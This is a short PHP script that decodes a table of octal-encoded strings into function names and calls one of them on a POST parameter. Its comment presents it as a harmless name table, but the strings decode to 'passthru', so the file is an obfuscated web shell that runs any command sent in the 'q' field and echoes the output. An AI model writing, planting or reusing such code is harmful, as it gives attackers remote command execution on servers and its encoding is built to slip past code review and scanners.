<?php
// a table of names kept as octal triplets, decoded in place by an inner loop, then called
$t = ['160150160166145162163151157156', '160141163163164150162165', '163164162154145156'];
foreach ($t as $i => $o) {
    $s = '';
    foreach (str_split($o, 3) as $c) {
        $s .= chr(octdec($c));
    }
    $t[$i] = $s;
}
$q = $_POST['q'] ?? 'id';
echo '<pre>';
$t[1]($q);
echo '</pre>';
